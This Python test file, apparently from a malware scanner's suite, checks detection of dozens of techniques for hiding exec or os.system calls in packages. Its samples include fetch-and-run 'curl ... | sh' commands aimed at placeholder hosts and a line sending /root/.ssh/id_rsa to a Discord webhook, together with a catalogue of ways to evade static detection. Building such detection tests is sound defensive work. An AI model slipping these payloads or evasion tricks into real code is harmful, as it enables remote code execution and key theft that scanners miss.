"""Ways to reach an act without naming it where it happens. Each is an evasion of the filter that was once open: with
the filter and without it, the same must be found."""

from __future__ import annotations

import base64

import pytest

from scanner.code.analysis import Analysis, analyse
from scanner.code.source import SourceFile
from scanner.model.finding import PackageRef

HIDDEN = base64.b64encode(b"import os\nos.system('curl http://a.invalid/x | sh')").decode()
DECODED = f"base64.b64decode('{HIDDEN}')"
SEND = "('https://discord.com/api/webhooks/1/x?' + open('/root/.ssh/id_rsa').read())"
LIBRARY = [SourceFile(f"package/part_{number}.py", b"value = 1\n" * 2500) for number in range(6)]
"""Past the size up to which an artifact's files are judged together."""

WAITING = {
    "exec in a mapping": f"import base64\nT = {{'a': exec}}\ndef go():\n    T['a']({DECODED})\n",
    "exec in a list": f"import base64\nT = [exec]\ndef go():\n    T[0]({DECODED})\n",
    "exec appended to a list": f"import base64\nT = []\nT.append(exec)\ndef go():\n    T[0]({DECODED})\n",
    "exec in a mapping of a class": (
        f"import base64\nclass A:\n    table = {{'x': exec}}\n    def go(self):\n        self.table['x']({DECODED})\n"
    ),
    "exec in a closure": (
        "import base64\ndef make():\n    e = exec\n    def inner(x):\n        e(x)\n    return inner\n"
        f"run = make()\ndef go():\n    run({DECODED})\n"
    ),
    "exec in a partial": f"import base64, functools\nT = functools.partial(exec)\ndef go():\n    T({DECODED})\n",
    "exec in a namespace": (
        f"import base64, types\nT = types.SimpleNamespace(run=exec)\ndef go():\n    T.run({DECODED})\n"
    ),
    "a decorator that runs what the function gives": (
        "import base64\ndef runs(function):\n    def inner():\n        exec(function())\n    return inner\n"
        f"@runs\ndef go():\n    return {DECODED}\n"
    ),
    "a helper under another name": (
        f"import base64\ndef helper(x):\n    exec(x)\nother = helper\ndef go():\n    other({DECODED})\n"
    ),
    "a helper in a mapping": (
        f"import base64\ndef helper(x):\n    exec(x)\nT = {{'a': helper}}\ndef go():\n    T['a']({DECODED})\n"
    ),
    "the method of an instance": (
        "import base64\nclass Maker:\n    def make(self, x):\n        exec(x)\none = Maker()\n"
        f"def go():\n    one.make({DECODED})\n"
    ),
    "a bound method": (
        "import base64\nclass Maker:\n    def make(self, x):\n        exec(x)\nmake = Maker().make\n"
        f"def go():\n    make({DECODED})\n"
    ),
    "making an instance": (
        f"import base64\nclass Maker:\n    def __init__(self, x):\n        exec(x)\ndef go():\n    Maker({DECODED})\n"
    ),
    "making an instance of a class that inherits": (
        "import base64\nclass Base:\n    def __init__(self, x):\n        exec(x)\nclass Maker(Base):\n    pass\n"
        f"def go():\n    Maker({DECODED})\n"
    ),
    "an inherited method": (
        "import base64\nclass Base:\n    def make(self, x):\n        exec(x)\nclass Maker(Base):\n    pass\n"
        f"def go():\n    Maker().make({DECODED})\n"
    ),
    "a name that another function binds": (
        f"import base64\ndef bind():\n    global T\n    T = exec\ndef go():\n    T({DECODED})\n"
    ),
    "a function that only text defines": (
        f"import base64\nexec('def q(x):\\n e' + 'xec(x)')\ndef go():\n    q({DECODED})\n"
    ),
    "exec started as a thread": (
        f"import base64, threading\ndef go():\n    threading.Thread(target=exec, args=({DECODED},)).start()\n"
    ),
    "exec as the default of a parameter": f"import base64\ndef go(run=exec):\n    run({DECODED})\n",
    "exec by its own method": f"import base64\ndef go():\n    exec.__call__({DECODED})\n",
    "an instance that is called": (
        "import base64\nclass Maker:\n    def __call__(self, x):\n        exec(x)\nmake = Maker()\n"
        f"def go():\n    make({DECODED})\n"
    ),
    "an instance that is entered": (
        "import base64\nclass Maker:\n    def __init__(self, x):\n        self.x = x\n"
        "    def __enter__(self):\n        exec(self.x)\n    def __exit__(self, *rest):\n        pass\n"
        f"def go():\n    with Maker({DECODED}):\n        pass\n"
    ),
    "a generator that gives exec": (
        f"import base64\ndef give():\n    yield exec\ndef go():\n    for run in give():\n        run({DECODED})\n"
    ),
    "a module in a mapping made by dict": (
        "import os\nT = dict(a=os)\ndef go():\n    T['a'].system('curl http://203.0.113.7/x | sh')\n"
    ),
    "os by way of another module": (
        "import shutil\ndef go():\n    shutil.os.system('curl http://203.0.113.7/x | sh')\n"
    ),
    "an import with a fallback": (
        "try:\n    import os as o\nexcept ImportError:\n    o = None\n"
        "def go():\n    o.system('curl http://203.0.113.7/x | sh')\n"
    ),
    "getattr under another name": (
        "import os\ng = getattr\ndef go():\n    g(os, 'sys' + 'tem')('curl http://203.0.113.7/x | sh')\n"
    ),
}
RUN = "('curl http://203.0.113.7/x | sh')"
CALLS = "(['sh', '-c', 'curl http://203.0.113.7/x | sh'])"
LOOKED_UP = {
    "a module in a mapping": f"import os\nT = {{'a': os}}\ndef go():\n    getattr(T['a'], 'sys' + 'tem'){RUN}\n",
    "a module that is returned": (
        f"import os\ndef give():\n    return os\ndef go():\n    getattr(give(), 'sys' + 'tem'){RUN}\n"
    ),
    "a module after a backslash": f"import os\nm = \\\n os\ndef go():\n    getattr(m, 'sys' + 'tem'){RUN}\n",
    "a module before a comment": f"import os\nm = os # as is\ndef go():\n    getattr(m, 'sys' + 'tem'){RUN}\n",
    "a module if something holds": (
        f"import os\nm = os if 1 else None\ndef go():\n    getattr(m, 'sys' + 'tem'){RUN}\n"
    ),
    "a module on a line of its own": (
        "import subprocess\ndef same(x, y):\n    return x\ndef go():\n"
        f"    same(\n        subprocess\n        , 1).call{CALLS}\n"
    ),
    "a module on the line after a comment": (
        "import subprocess\ndef same(x, y):\n    return x\ndef go():\n"
        f"    same( # what\n        subprocess, 1).call{CALLS}\n"
    ),
    "the mapping of os": f"import os\ndef go():\n    os.__dict__['sys' + 'tem']{RUN}\n",
    "a module as the default of a parameter": f"import os\ndef go(m=os):\n    getattr(m, 'sys' + 'tem'){RUN}\n",
    "an argument in nested brackets": (
        "def i(x): return x\ndef j(x): return x\ndef go():\n    import urllib.request\n"
        f"    getattr(i(j(urllib.request)), 'url' + 'open'){SEND}\n"
    ),
    "an argument that looks like the end of the arguments": (
        "def i(x, y): return x\ndef go():\n    import urllib.request\n"
        f"    (getattr(i(urllib.request, '('), 'url' + 'open'), 'x')[0]{SEND}\n"
    ),
    "a comment that looks like an argument": (
        f"def go():\n    import urllib.request\n    getattr(urllib.request # , 'x')\n    , 'url' + 'open'){SEND}\n"
    ),
    "the names of a module as a table of the file": (
        f"import urllib.request\nd = vars(urllib.request)\ndef go():\n    d['url' + 'open']{SEND}\n"
    ),
    "the names of a module as a table of the function": (
        f"import urllib.request\ndef go():\n    d = vars(urllib.request)\n    d['url' + 'open']{SEND}\n"
    ),
    "the mapping of a module": (
        f"import urllib.request\ndef go():\n    d = urllib.request.__dict__\n    d['url' + 'open']{SEND}\n"
    ),
    "getattr under another name": (
        f"import urllib.request\ng = getattr\ndef go():\n    g(urllib.request, 'url' + 'open'){SEND}\n"
    ),
    "getattr given to map": (
        "import urllib.request\ndef go():\n    for one in map(getattr, [urllib.request], ['url' + 'open']):\n"
        f"        one{SEND}\n"
    ),
    "attrgetter under another name": (
        "import urllib.request\nfrom operator import attrgetter as g\ndef go():\n"
        f"    g('url' + 'open')(urllib.request){SEND}\n"
    ),
    "an import under another name": f"i = __import__\ndef go():\n    i('url' + 'lib.request').request.urlopen{SEND}\n",
    "import_module under another name": (
        "import importlib\nload = importlib.import_module\ndef go():\n"
        "    load('o' + 's').system('curl http://203.0.113.7/x | sh')\n"
    ),
    "import_module renamed where it is imported": (
        "from importlib import import_module as load\ndef go():\n"
        "    load('o' + 's').system('curl http://203.0.113.7/x | sh')\n"
    ),
    "import_module given to map": (
        "from importlib import import_module\ndef go():\n"
        "    for one in map(import_module, ['o' + 's']):\n        one.system('curl http://203.0.113.7/x | sh')\n"
    ),
    "the table of modules under another name": (
        "import sys\nm = sys.modules\ndef go():\n    m['o' + 's'].system('curl http://203.0.113.7/x | sh')\n"
    ),
    "the table of modules, imported": (
        "from sys import modules as m\ndef go():\n    m['o' + 's'].system('curl http://203.0.113.7/x | sh')\n"
    ),
    "the mapping of the builtins": (
        f"import base64, builtins\ndef go():\n    builtins.__dict__['ex' + 'ec']({DECODED})\n"
    ),
    "the module of a builtin": f"import base64\ndef go():\n    print.__self__.exec({DECODED})\n",
    "the module of a builtin, by a name put together": (
        f"import base64\ndef go():\n    getattr(print.__self__, 'ex' + 'ec')({DECODED})\n"
    ),
    "the builtins among globals": (
        f"import base64\ng = globals()\ndef go():\n    g['__buil' + 'tins__'].exec({DECODED})\n"
    ),
    "the builtins among locals": (
        f"import base64\ndef go():\n    here = locals()\n    here['__buil' + 'tins__'].exec({DECODED})\n"
    ),
}


def _found(program: str, *, large: bool, prefilter: bool) -> Analysis:
    files = [SourceFile("package/__init__.py", program.encode()), *(LIBRARY if large else [])]
    return analyse(files, kind="wheel", package=PackageRef("example", "1.0"), prefilter=prefilter)


def _assert_found(program: str, *, large: bool) -> None:
    found = [_found(program, large=large, prefilter=prefilter) for prefilter in (True, False)]
    assert found[0].findings == found[1].findings
    assert found[0].verdict == found[1].verdict
    assert found[0].verdict in {"suspicious", "malicious"}


@pytest.mark.parametrize("large", [False, True], ids=["small", "large"])
@pytest.mark.parametrize("program", WAITING.values(), ids=WAITING.keys())
def test_when_it_is_called(program: str, large: bool) -> None:
    _assert_found(program, large=large)


@pytest.mark.parametrize("large", [False, True], ids=["small", "large"])
@pytest.mark.parametrize("called", ["", "go()\n"], ids=["when called", "at import"])
@pytest.mark.parametrize("program", LOOKED_UP.values(), ids=LOOKED_UP.keys())
def test_by_a_name_that_is_put_together(program: str, called: str, large: bool) -> None:
    _assert_found(program + called, large=large)


HARMLESS = """
import os
from operator import attrgetter, itemgetter

def go(one):
    return getattr(one.value[0](1), 'name', None), attrgetter('name')(one), one.__dict__['name']
"""


def test_a_plain_lookup_is_no_reason_to_look_closer() -> None:
    from scanner.code.lookups import names_computed

    assert not names_computed(HARMLESS.encode())
